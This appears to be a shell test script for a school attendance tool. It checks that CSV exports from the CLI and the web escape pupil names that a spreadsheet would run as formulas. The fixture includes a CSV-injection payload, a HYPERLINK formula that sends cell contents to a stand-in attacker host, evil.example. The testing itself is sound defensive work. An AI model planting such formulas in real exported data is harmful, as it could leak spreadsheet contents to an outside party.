#!/bin/bash
# A name that a spreadsheet would run as a formula (CSV injection,
# OWASP) reaches every CSV download as text: the one writer prefixes
# such a cell with a single quote and quotes it (src/util/csv_write.h),
# in the CLI's --format csv and in the web's list downloads alike.
. "$(dirname "$0")/test-lib.sh"

export ATTEND_TODAY=2025-11-04
. "$TEST_DIR/web-lib.sh"
web_fixture

E=$(upn 990200125021)
test_expect_success 'a pupil whose surname is a formula is imported' - <<\EOT
cat >evil.csv <<EOF2 &&
upn,urn,surname,forename,dob
$E,100001,"=HYPERLINK(""http://evil.example/""&A1)",@SUM(A1),2016-01-01
EOF2
printf "upn,urn,date,session,code\n%s,100001,2025-10-01,AM,O\n" "$E" >evil-reg.csv &&
$ATTEND --db $db import evil.csv evil-reg.csv >/dev/null &&
login lead &&
test "$(sqlite3 $db "SELECT surname FROM pupil WHERE upn = '$E'")" = \
	'=HYPERLINK("http://evil.example/"&A1)'
EOT
test_expect_success 'the CLI writes it as text, quoted behind a single quote' '
	$ATTEND --db $db case open "$E" --user lead --reason "not seen" >/dev/null &&
	$ATTEND --db $db case list --user lead --format csv >out.csv &&
	grep "$E" out.csv | test_diag &&
	grep -F ",\"'\''@SUM(A1) =HYPERLINK(\"\"http://evil.example/\"\"&A1)\"," out.csv &&
	! grep -E "(^|,)[=@]" out.csv
'
test_expect_success 'the web download does the same' '
	test_is "$(as lead "$base/lists/caseload?format=csv")" 200 &&
	grep "$E" body | test_diag &&
	grep -F ",\"'\''=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",\"'\''@SUM(A1)\"," body &&
	! grep -E "(^|,)[=@+]" body
'
test_expect_success 'the page itself shows the name unchanged' '
	test_is "$(as lead "$base/pupils/$E")" 200 &&
	grep -F "<h1>@SUM(A1) =HYPERLINK(\"http://evil.example/\"&amp;A1)</h1>" body
'
test_done
